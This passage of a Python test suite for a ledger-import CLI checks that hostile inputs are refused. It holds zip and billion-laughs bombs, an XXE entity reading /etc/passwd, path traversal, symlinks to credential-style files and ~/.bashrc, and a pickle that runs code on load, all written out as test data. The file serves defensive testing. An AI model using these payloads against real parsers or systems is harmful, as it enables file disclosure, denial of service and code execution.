    assert f"plancli: {book}: the workbook unpacks to more than 100 MB (a zip bomb, or damaged)" in r.err
    assert r.peak_mib < 120, r.peak_mib  # streamed: the child never held the 160 MB it unpacks to
    assert not (tmp_path / "progress.yaml").exists()


def test_a_declared_dimension_of_the_whole_grid_is_not_trusted(tiny, tmp_path):
    """``<dimension ref="A1:XFD1048576"/>``: 17 billion cells declared, three written: read as three."""
    sheet = (f'<worksheet {_NS}><dimension ref="A1:XFD1048576"/><sheetData>{_HEAD}'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>test-004</t></is></c>'
             '<c r="B2" t="inlineStr"><is><t>已完成</t></is></c></row></sheetData></worksheet>').encode()
    book = _xlsx(tmp_path / "省科技厅.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    r = bounded("import", str(book), "--registry", str(tiny), "--progress", str(tmp_path / "p.yaml"), "--new",
                "--on", "2024-10-18", "--dry-run")
    assert r.code == 0, r.err
    assert "test-004" in r.out and r.peak_mib < 120, r.peak_mib


_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + ']>')
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml",
                                  "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
@pytest.mark.parametrize(("attack", "prolog", "body"), [
    ("billion-laughs", _LAUGHS, "&lol9;"), ("xxe", _XXE, "&xxe;")])
def test_entity_bombs_and_external_entities_in_any_part_are_refused(part, attack, prolog, body, tiny, tmp_path):
    root = {"xl/worksheets/sheet1.xml": f"<worksheet {_NS}><sheetData>{_HEAD}<row r=\"2\"><c r=\"A2\" "
                                        f"t=\"inlineStr\"><is><t>{body}</t></is></c></row></sheetData></worksheet>",
            "xl/workbook.xml": f"<workbook {_NS}><x>{body}</x></workbook>",
            "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                                   f"<x>{body}</x></Types>",
            "xl/styles.xml": f"<styleSheet {_NS}><x>{body}</x></styleSheet>",
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                          f'relationships"><x>{body}</x></Relationships>'}[part]
    book = _xlsx(tmp_path / "省科技厅.xlsx", {part: (prolog + root).encode()})
    r = _import_bounded(tiny, book, tmp_path / "progress.yaml")
    assert r.code == 2, (r.out, r.err)
    assert "root:" not in r.out + r.err and "lollollol" not in r.out + r.err
    assert r.peak_mib < 120, r.peak_mib
    assert "1 file(s) cannot be read as a 台账" in r.err


@pytest.mark.parametrize("where", ["inside", "outside"])
def test_evidence_naming_a_fifo_is_never_opened(where, tiny, tmp_path):
    """A cell naming a FIFO — beside the workbook or outside its folder — is refused without opening it
    (opening would block: the child would be killed at its timeout)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    _fifo(inbox / "报告.pdf" if where == "inside" else tmp_path / "报告.pdf")
    cell = "报告.pdf" if where == "inside" else "../报告.pdf"
    sheet = (f'<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>完成情况</t></is></c><c r="C1" t="inlineStr"><is><t>佐证材料</t></is></c>'
             '<c r="D1" t="inlineStr"><is><t>数据截至日期</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>test-004</t></is></c><c r="B2" t="inlineStr"><is><t>已完成'
             f'</t></is></c><c r="C2" t="inlineStr"><is><t>{cell}</t></is></c><c r="D2" t="inlineStr"><is><t>'
             '2024-10-18</t></is></c></row></sheetData></worksheet>').encode()
    book = _xlsx(inbox / "省科技厅.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    r = _import_bounded(tiny, book, tmp_path / "progress.yaml")
    assert r.code == 2 and f"{book}:台账!2: " in r.err
    assert not (tmp_path / "progress.yaml").exists()


def test_a_workbook_path_named_in_evidence_stays_out_of_the_ledger(tiny, cli, tmp_path):
    """record --evidence of a file outside the repository copies it into the evidence store: the ledger
    keeps the store's relative path, never the absolute local one."""
    outside = tmp_path / "downloads" / "通报.pdf"
    outside.parent.mkdir()
    outside.write_bytes(b"%PDF-1.4 evidence")
    ledger = tmp_path / "reg" / "progress.yaml"
    ledger.parent.mkdir()
    r = cli("record", "test-004", "--status", "done", "--evidence", str(outside), "--registry", str(tiny),
            "--progress", str(ledger), "--new")
    assert r.code == 0, r.err
    text = ledger.read_text(encoding="utf-8")
    assert str(tmp_path) not in text and '"evidence": "evidence/' in text


def test_validate_opens_no_evidence_symlinked_out_of_the_repository(tiny, tmp_path):
    """A commit can put a symlink into the evidence store: validate names it and never hashes its
    target, so a CI log tells nothing of what it points to (not even its size)."""
    ledger = tmp_path / "progress.yaml"
    sha = "ab" + "0" * 62
    store = tmp_path / "evidence" / "ab"
    store.mkdir(parents=True)
    secret = tmp_path.parent / f"{tmp_path.name}-shadow"
    secret.write_bytes(b"root:$6$secret-hash:19000:0:99999:7:::\n" * 3)
    (store / f"{sha}.pdf").symlink_to(secret)
    rec = {"rid": "r2", "id": "test-004", "status": "done", "on": "2024-10-01", "evidence": f"evidence/ab/{sha}.pdf",
           "evidence_sha256": sha, "evidence_size": 10, "recorded_at": "2024-10-01T09:00:00+08:00"}
    ledger.write_text(GOOD_LEDGER + "  - " + json.dumps(rec) + "\n", encoding="utf-8")
    r = bounded("validate", str(tiny), "--progress", str(ledger))
    assert r.code == 1
    line = next(ln for ln in r.out.splitlines() if ln.startswith(f"{ledger}:3: "))
    said = line[len(f"{ledger}:3: "):]  # (the message, not the ledger's path: pytest's own tmp dir may hold the digits)
    assert "outside the ledger's directory" in said and str(secret.stat().st_size) not in said


def test_an_evidence_store_symlinked_out_of_the_repository_receives_nothing(tiny, cli, tmp_path):
    """A commit that makes ``evidence`` a symlink (to an autostart folder, say) must not get a unit's
    file written there: the copy is refused, and nothing is recorded."""
    ledger = tmp_path / "reg" / "progress.yaml"
    ledger.parent.mkdir()
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    target = tmp_path / "autostart"
    target.mkdir()
    (ledger.parent / "evidence").symlink_to(target)
    sent = tmp_path / "报告.pdf"
    sent.write_bytes(b"%PDF-1.4 [Desktop Entry] Exec=evil")
    err = one_error(cli("record", "test-004", "--status", "done", "--evidence", str(sent), "--registry", str(tiny),
                        "--progress", str(ledger)))
    assert err.startswith("the evidence store evidence/") and "leads outside the ledger's folder" in err
    assert list(target.rglob("*")) == [] and ledger.read_text(encoding="utf-8") == GOOD_LEDGER


def test_a_lock_file_committed_as_a_symlink_empties_nothing(tiny, cli, tmp_path):
    """``progress.yaml.lock -> ~/.bashrc``, forced into a commit: recording must not open it (filelock
    releases before 4 opened it with O_TRUNC), and the target stays whole."""
    ledger = tmp_path / "progress.yaml"
    ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    precious = tmp_path / "bashrc"
    precious.write_text("export PATH=$HOME/bin:$PATH\n", encoding="utf-8")
    (tmp_path / "progress.yaml.lock").symlink_to(precious)
    err = one_error(cli("record", "test-004", "--status", "done", "--registry", str(tiny), "--progress", str(ledger)))
    assert err == f"{ledger}: the ledger's lock file progress.yaml.lock is a symlink; nothing was recorded: delete it"
    assert precious.read_text(encoding="utf-8") == "export PATH=$HOME/bin:$PATH\n"
    assert ledger.read_text(encoding="utf-8") == GOOD_LEDGER


# --------------------------------------------------------------------------- 6. caches (issue 27)
# A cache directory can be planted (a world-writable PLANCLI_CACHE_DIR, an archive unpacked in $HOME)
# or shared. Loading one must never run code, and a planted entry must not change an answer.

class _Touch:
    """A pickle that, if anything ever unpickles it, creates ``marker`` (pickle calls what it names)."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def _cached(tiny: Path, cache: Path, *args: str) -> Run:
    ledger = tiny.parent / "p.yaml"
    if not ledger.exists():  # a ledger, so that its cache (the timeline's index) is planted too
        ledger.write_text(GOOD_LEDGER, encoding="utf-8")
    env_args = ("list", "--format", "json", "--registry", str(tiny), "--progress", str(tiny.parent / "p.yaml"), *args)
    old = os.environ.get("PLANCLI_CACHE_DIR")
    os.environ["PLANCLI_CACHE_DIR"] = str(cache)
    try:
        return bounded(*env_args)
    finally:
        if old is None:
            os.environ.pop("PLANCLI_CACHE_DIR", None)
        else:
            os.environ["PLANCLI_CACHE_DIR"] = old


def _entries(cache: Path) -> list[Path]:
    return [p for p in cache.rglob("*") if p.is_file() and not p.is_symlink()]


@pytest.mark.parametrize("payload", ["pickle", "deep-json", "deep-tree", "symlink"])
def test_a_planted_cache_entry_runs_nothing_and_changes_no_answer(payload, tiny, tmp_path):
    import pickle

    cache = tmp_path / "cache"
    clean = _cached(tiny, cache)
    assert clean.code == 0 and _entries(cache), clean.err
    marker = tmp_path / "pwned"
    for entry in _entries(cache):
        if payload == "pickle":
            entry.write_bytes(pickle.dumps(_Touch(marker)))
        elif payload == "deep-json":  # the header a cache entry starts with, nested past any recursion limit
            head = entry.read_bytes().split(b"\n", 1)[0] + b"\n"
            body = b"[" * 200_000 + b"]" * 200_000
            entry.write_bytes(head + str(len(body)).encode() + b"\n" + body)
        elif payload == "deep-tree":  # valid JSON, a tagged tree nested deep: what the unpacker walks
            raw = entry.read_bytes()
            if not raw.startswith(b"plancli-cache\n"):
                continue  # a stat pointer: it only names an entry
            _, size, rest = raw.split(b"\n", 2)
            header = json.loads(rest[:int(size)])
            # deep enough that a recursive unpacker runs out of stack, shallow enough for json itself
            for key in header:  # every part of every kind of entry (a document's, a ledger's index …)
                if key not in ("tag", "sizes"):
                    header[key] = {k: "@deep@" for k in header[key]} if isinstance(header[key], dict) else "@deep@"
            text = json.dumps(header).replace('"@deep@"', '["L", ' * 900 + "1" + "]" * 900).encode()
            entry.write_bytes(b"plancli-cache\n" + str(len(text)).encode() + b"\n" + text + rest[int(size):])
        else:
            entry.unlink()
            entry.symlink_to("/etc/passwd")
    again = _cached(tiny, cache)
    assert again.code == 0, again.err
    assert json.loads(again.out) == json.loads(clean.out)  # the same answer, rebuilt
    assert not marker.exists()


def test_a_cache_directory_others_may_write_is_not_read(tiny, tmp_path):
    """A group- or world-writable cache directory (or one another user owns) is not used at all."""
    import pickle

    cache = tmp_path / "cache"
    clean = _cached(tiny, cache)
    marker = tmp_path / "pwned"
    for entry in _entries(cache):
        entry.write_bytes(pickle.dumps(_Touch(marker)))
    for d in [cache, *[p for p in cache.rglob("*") if p.is_dir()]]:
        d.chmod(0o777)
    again = _cached(tiny, cache)
    assert again.code == 0 and json.loads(again.out) == json.loads(clean.out)
    assert not marker.exists()
